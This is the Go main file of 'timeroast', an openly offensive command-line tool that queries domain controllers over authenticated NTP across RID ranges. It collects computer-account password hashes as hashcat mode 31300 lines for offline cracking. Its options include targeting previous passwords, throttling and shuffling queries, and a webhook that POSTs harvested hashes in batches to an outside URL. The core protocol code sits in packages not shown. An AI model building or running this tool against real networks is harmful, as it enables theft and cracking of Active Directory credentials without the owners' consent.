package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"math"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	tea "github.com/charmbracelet/bubbletea"
	"github.com/mattn/go-isatty"
	log "github.com/sirupsen/logrus"
	"github.com/spf13/cobra"
	"github.com/spf13/pflag"

	"timeroast/internal/campaign"
	"timeroast/internal/capture"
	"timeroast/internal/config"
	"timeroast/internal/harvest"
	"timeroast/internal/ntp"
	"timeroast/internal/output"
	"timeroast/internal/preflight"
	"timeroast/internal/targets"
	"timeroast/internal/ui"
	"timeroast/internal/version"
)

// options holds every CLI flag.
type options struct {
	hostsFile  string
	targets    []string
	outputFile string
	format     string

	rate        int
	giveUp      time.Duration
	oldPassword bool
	sourcePort  int
	port        int
	template    string

	rids      string
	batchSize int
	shuffle   bool

	pcap             string
	webhookURL       string
	preflight        bool
	preflightTimeout time.Duration

	configFile string
	quiet      bool
	noTUI      bool
	verbose    bool
	debug      bool
}

func main() {
	if err := newRootCommand(&options{}).Execute(); err != nil {
		if errors.Is(err, harvest.ErrBindPermission) {
			log.Fatalf("%v\nhint: %s", err, bindHint())
		}
		log.Fatal(err)
	}
}

func newRootCommand(o *options) *cobra.Command {
	cmd := &cobra.Command{
		Use:   "timeroast [flags] [host ...]",
		Short: "Harvest MS-SNTP password hashes of computer accounts",
		Long: "timeroast sends authenticated NTP requests for a range of RIDs to a domain\n" +
			"controller and writes each signed reply as a hashcat mode 31300 line.",
		Version:       version.Version,
		SilenceUsage:  true,
		SilenceErrors: true,
		RunE: func(cmd *cobra.Command, args []string) error {
			return run(cmd.Flags(), o, args)
		},
	}
	cmd.SetVersionTemplate("timeroast version {{.Version}}\n")

	f := cmd.Flags()
	f.StringVarP(&o.hostsFile, "hosts-file", "f", "", "Read hosts from file (one per line)")
	f.StringSliceVarP(&o.targets, "target", "t", nil, "Domain controller (repeatable, comma-separated)")
	f.StringVarP(&o.outputFile, "output", "o", "-", "Hash file, appended to (\"-\" for stdout)")
	f.StringVar(&o.format, "format", string(output.FormatHashcatLines), "Output format (hashcat|jsonl)")

	f.IntVar(&o.rate, "rate", harvest.DefaultRate, "Queries per second")
	f.DurationVar(&o.giveUp, "giveup", harvest.DefaultGiveUp, "Stop a batch after this long without a valid reply")
	f.BoolVar(&o.oldPassword, "old", false, "Request hashes of the previous computer password")
	f.IntVar(&o.sourcePort, "src-port", 0, "Local UDP port (123 helps with strict firewalls; needs root)")
	f.IntVar(&o.port, "port", ntp.Port, "Remote NTP port")
	f.StringVar(&o.template, "template", "", "Override the 48-byte request prefix (hex)")
	f.MarkHidden("template")

	f.StringVar(&o.rids, "rids", targets.DefaultSpace, "RIDs to try (e.g. 500-1000,1103)")
	f.IntVar(&o.batchSize, "batch-size", targets.DefaultBatchSize, "RIDs per harvest run")
	f.BoolVar(&o.shuffle, "shuffle", false, "Randomise RID order within each batch")

	f.StringVar(&o.pcap, "pcap", "", "Write received datagrams to a pcap file")
	f.StringVar(&o.webhookURL, "webhook", "", "Webhook URL (HTTP POST batched JSONL)")
	f.BoolVar(&o.preflight, "preflight", false, "Skip hosts that do not answer a plain NTP query")
	f.DurationVar(&o.preflightTimeout, "preflight-timeout", preflight.DefaultTimeout, "Timeout for the preflight query")

	f.StringVarP(&o.configFile, "config", "c", "", "Config file (YAML)")
	f.BoolVarP(&o.quiet, "quiet", "q", false, "Silent mode (no terminal output)")
	f.BoolVar(&o.noTUI, "no-tui", false, "Disable TUI (text mode)")
	f.BoolVarP(&o.verbose, "verbose", "v", false, "Verbose output")
	f.BoolVar(&o.debug, "debug", false, "Debug mode (packet-level diagnostics)")

	return cmd
}

func run(flags *pflag.FlagSet, o *options, args []string) error {
	// ── Apply config file (CLI flags override) ───────────────────────
	var cfg *config.Config
	if o.configFile != "" {
		var err error
		cfg, err = config.LoadConfig(o.configFile)
		if err != nil {
			return fmt.Errorf("failed to load config %s: %w", o.configFile, err)
		}
		applyConfig(cfg, flags, o)
	}

	hosts, err := collectHosts(o, cfg, args)
	if err != nil {
		return err
	}
	if len(hosts) == 0 {
		return errors.New("no hosts specified (use -t, positional args, -f, or -c)")
	}

	rids, err := targets.ParseRIDs(o.rids)
	if err != nil {
		return err
	}
	if o.batchSize <= 0 || uint64(o.batchSize) > math.MaxUint32 {
		return fmt.Errorf("invalid batch size %d (want 1-%d)", o.batchSize, uint64(math.MaxUint32))
	}
	format, err := output.ParseFormat(o.format)
	if err != nil {
		return err
	}
	tpl := ntp.DefaultTemplate
	if o.template != "" {
		if tpl, err = ntp.ParseTemplate(o.template); err != nil {
			return err
		}
	}

	// ── UI mode ────────────────────────────────────────────────────────
	stdoutOutput := o.outputFile == "-" || o.outputFile == ""
	var uiMode ui.Mode
	if o.quiet {
		uiMode = ui.ModeSilent
	} else if o.noTUI || o.debug || stdoutOutput || !isatty.IsTerminal(os.Stdout.Fd()) {
		uiMode = ui.ModeText
	} else {
		uiMode = ui.ModeTUI
	}
	textOut := io.Writer(os.Stdout)
	if stdoutOutput {
		textOut = os.Stderr // hashes own stdout
	}

	setupLogging(o, uiMode)

	// ── Output ─────────────────────────────────────────────────────────
	sink, err := buildSink(o, cfg, format, stdoutOutput)
	if err != nil {
		return err
	}
	defer sink.Close()

	var recorder harvest.Recorder
	if o.pcap != "" {
		pw, err := capture.Create(o.pcap)
		if err != nil {
			return fmt.Errorf("failed to open pcap file: %w", err)
		}
		defer pw.Close()
		recorder = pw
	}

	// ── Harvester + campaign ───────────────────────────────────────────
	stats := &harvest.Stats{}
	h := harvest.New(harvest.Options{
		Rate:        o.rate,
		GiveUp:      o.giveUp,
		OldPassword: o.oldPassword,
		SourcePort:  o.sourcePort,
		Port:        o.port,
		Template:    tpl,
		Recorder:    recorder,
		Stats:       stats,
	})

	events := make(chan ui.Event, 10000)
	driver, err := campaign.New(campaign.Config{
		Hosts:            hosts,
		RIDs:             rids,
		BatchSize:        uint32(o.batchSize),
		Shuffle:          o.shuffle,
		Preflight:        o.preflight,
		PreflightTimeout: o.preflightTimeout,
	}, h, sink, events)
	if err != nil {
		return err
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	start := time.Now()
	runErr := make(chan error, 1)
	go func() {
		runErr <- driver.Run(ctx)
		close(events)
	}()

	collect := statsCollector(stats, start)

	// ── Run UI until the campaign ends ─────────────────────────────────
	switch uiMode {
	case ui.ModeTUI:
		model := ui.NewModel(strings.Join(hosts, ","), rids.String(), len(hosts), len(driver.Batches()))
		program := tea.NewProgram(model, tea.WithAltScreen())
		go func() {
			pump(events, collect,
				func(ev ui.Event) { program.Send(ev) },
				func(s ui.Stats) { program.Send(s) })
			program.Send(ui.Event{Type: ui.EvtDone})
		}()
		final, err := program.Run()
		if err != nil {
			stop()
			<-runErr
			return err
		}
		if m, ok := final.(ui.Model); ok && m.Quitting() {
			stop()
		}

	case ui.ModeText:
		printer := &ui.TextPrinter{Verbose: o.verbose, Out: textOut}
		var onStats func(ui.Stats)
		if f, ok := textOut.(*os.File); ok && isatty.IsTerminal(f.Fd()) {
			onStats = printer.PrintStats
		}
		pump(events, collect, printer.PrintEvent, onStats)

	case ui.ModeSilent:
		pump(events, collect, nil, nil)
	}

	err = <-runErr
	if errors.Is(err, context.Canceled) {
		fmt.Fprintln(textOut, "\nAborted.")
		err = nil
	}
	if err != nil {
		return err
	}

	// Final stats
	sum := driver.Summary()
	snap := stats.Snapshot()
	if uiMode != ui.ModeSilent {
		fmt.Fprintf(textOut, "\nHarvest finished. Hosts: %d (skipped %d), Sent: %d, Hashes: %d, Duplicates: %d, Noise: %d\n",
			sum.Hosts, sum.Skipped, snap.Sent, snap.Harvested, snap.Duplicates, snap.Malformed)
	}
	return nil
}

// pump forwards campaign events and periodic stats until events is closed.
// Either callback may be nil.
func pump(events <-chan ui.Event, collect func() ui.Stats, onEvent func(ui.Event), onStats func(ui.Stats)) {
	ticker := time.NewTicker(250 * time.Millisecond)
	defer ticker.Stop()
	for {
		select {
		case ev, ok := <-events:
			if !ok {
				return
			}
			if onEvent != nil {
				onEvent(ev)
			}
		case <-ticker.C:
			s := collect()
			if onStats != nil {
				onStats(s)
			}
		}
	}
}

// statsCollector samples the shared counters; Rate is probes/s since the
// previous sample.
func statsCollector(stats *harvest.Stats, start time.Time) func() ui.Stats {
	var prevSent uint64
	prevAt := start
	return func() ui.Stats {
		now := time.Now()
		snap := stats.Snapshot()
		var rate float64
		if dt := now.Sub(prevAt).Seconds(); dt > 0 {
			rate = float64(snap.Sent-prevSent) / dt
		}
		prevSent, prevAt = snap.Sent, now
		return ui.Stats{
			Sent:       snap.Sent,
			Received:   snap.Received,
			Harvested:  snap.Harvested,
			Duplicates: snap.Duplicates,
			Malformed:  snap.Malformed,
			Elapsed:    now.Sub(start),
			Rate:       rate,
		}
	}
}

func setupLogging(o *options, mode ui.Mode) {
	log.SetOutput(os.Stderr)
	switch {
	case o.debug:
		log.SetLevel(log.DebugLevel)
	case o.verbose:
		log.SetLevel(log.InfoLevel)
	case mode == ui.ModeTUI:
		// The alternate screen would be torn by log lines.
		log.SetLevel(log.ErrorLevel)
	default:
		log.SetLevel(log.WarnLevel)
	}
}

// collectHosts merges config, -f, -t and positional hosts, in that order,
// dropping repeats.
func collectHosts(o *options, cfg *config.Config, args []string) ([]string, error) {
	var hosts []string
	if cfg != nil {
		hosts = append(hosts, cfg.Targets.Hosts...)
	}
	if o.hostsFile != "" {
		fromFile, err := targets.ReadHostsFile(o.hostsFile)
		if err != nil {
			return nil, fmt.Errorf("failed to read host list: %w", err)
		}
		hosts = append(hosts, fromFile...)
	}
	hosts = append(hosts, o.targets...)
	hosts = append(hosts, args...)

	seen := make(map[string]bool, len(hosts))
	out := hosts[:0]
	for _, h := range hosts {
		h = strings.TrimSpace(h)
		if h == "" || seen[h] {
			continue
		}
		seen[h] = true
		out = append(out, h)
	}
	return out, nil
}

func buildSink(o *options, cfg *config.Config, format output.Format, stdoutOutput bool) (*output.OutputSink, error) {
	sink := output.NewOutputSink()
	if stdoutOutput {
		// Small threshold: each hash line reaches the terminal promptly.
		sink.Add(output.NewStdoutWriter(1, format))
	} else {
		w, err := output.NewFileWriter(o.outputFile, format)
		if err != nil {
			return nil, fmt.Errorf("failed to open output file: %w", err)
		}
		sink.Add(w)
	}

	if o.webhookURL != "" {
		wcfg := output.WebhookConfig{URL: o.webhookURL}
		if cfg != nil && cfg.Output.Webhook != nil {
			wh := cfg.Output.Webhook
			wcfg.BatchSize = wh.BatchSize
			wcfg.Timeout = wh.Timeout.Duration
			wcfg.MaxRetries = wh.MaxRetries
			wcfg.Headers = wh.Headers
		}
		sink.Add(output.NewWebhookWriter(wcfg))
	}
	return sink, nil
}

// applyConfig applies config values for flags that were not explicitly set on the CLI.
func applyConfig(cfg *config.Config, flags *pflag.FlagSet, o *options) {
	set := flags.Changed
	h := cfg.Harvest
	t := cfg.Targets
	out := cfg.Output

	if !set("rate") && h.Rate > 0 {
		o.rate = h.Rate
	}
	if !set("giveup") && h.GiveUp.Duration > 0 {
		o.giveUp = h.GiveUp.Duration
	}
	if !set("old") && h.OldPassword {
		o.oldPassword = true
	}
	if !set("src-port") && h.SourcePort > 0 {
		o.sourcePort = h.SourcePort
	}
	if !set("port") && h.Port > 0 {
		o.port = h.Port
	}
	if !set("template") && h.Template != "" {
		o.template = h.Template
	}
	if !set("preflight") && h.Preflight {
		o.preflight = true
	}
	if !set("preflight-timeout") && h.PreflightTimeout.Duration > 0 {
		o.preflightTimeout = h.PreflightTimeout.Duration
	}

	// Targets
	if !set("hosts-file") && t.HostsFile != "" {
		o.hostsFile = t.HostsFile
	}
	if !set("rids") && t.RIDs != "" {
		o.rids = t.RIDs
	}
	if !set("batch-size") && t.BatchSize > 0 {
		o.batchSize = t.BatchSize
	}
	if !set("shuffle") && t.Shuffle {
		o.shuffle = true
	}

	// Output
	if !set("output") && out.File != "" {
		o.outputFile = out.File
	}
	if !set("format") && out.Format != "" {
		o.format = out.Format
	}
	if !set("pcap") && out.Pcap != "" {
		o.pcap = out.Pcap
	}
	if !set("webhook") && out.Webhook != nil && out.Webhook.URL != "" {
		o.webhookURL = out.Webhook.URL
	}
	if !set("verbose") && out.Verbose {
		o.verbose = true
	}
	if !set("debug") && out.Debug {
		o.debug = true
	}
	if !set("quiet") && out.Quiet {
		o.quiet = true
	}
	if !set("no-tui") && out.NoTUI {
		o.noTUI = true
	}
}
